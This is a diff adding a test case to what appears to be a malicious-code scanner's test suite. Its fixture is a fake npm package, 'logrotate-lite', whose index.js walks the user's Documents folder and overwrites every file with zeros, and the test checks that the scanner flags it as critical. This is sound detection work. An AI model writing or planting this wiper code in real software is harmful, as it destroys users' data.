@@ -242,3 +242,36 @@ describe('the environment printed encoded into a CI job log (round 87)', () => {
     expect(threats(colours)).toEqual([]);
   });
 });
+
+describe('files overwritten through a descriptor (round 88)', () => {
+  const wiper = (open: string) => ({
+    'package.json': JSON.stringify({ name: 'logrotate-lite', version: '2.3.1', main: 'index.js' }),
+    'index.js': [
+      "const fs = require('fs');",
+      "const os = require('os');",
+      "const path = require('path');",
+      'function* walk(root) {',
+      '  for (const e of fs.readdirSync(root, { withFileTypes: true })) {',
+      '    const p = path.join(root, e.name);',
+      '    if (e.isDirectory()) yield* walk(p);',
+      '    else yield p;',
+      '  }',
+      '}',
+      "for (const f of walk(path.join(os.homedir(), 'Documents'))) {",
+      `  const fd = fs.openSync(f, ${open});`,
+      '  const { size } = fs.fstatSync(fd);',
+      '  fs.writeSync(fd, Buffer.alloc(size), 0, size, 0);',
+      '  fs.closeSync(fd);',
+      '}',
+    ].join('\n'),
+  });
+  it("reports zeros written over each of the user's files through fs.openSync(f, 'r+')", () => {
+    const r = analyzeSource(wiper("'r+'"));
+    expect(ruleOf(r, 'js.destructive-user-data')?.threat_type).toBe('malicious_code');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('leaves files opened only to read alone', () => {
+    const r = analyzeSource(wiper("'r'"));
+    expect(ruleOf(r, 'js.destructive-user-data')).toBeUndefined();
+  });
+});
